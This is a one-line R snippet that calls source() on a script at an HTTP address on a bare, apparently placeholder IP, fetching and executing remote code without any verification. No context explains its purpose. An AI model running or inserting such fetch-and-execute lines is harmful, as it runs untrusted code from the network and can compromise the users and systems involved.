source("http://203.0.113.3/setup.R")
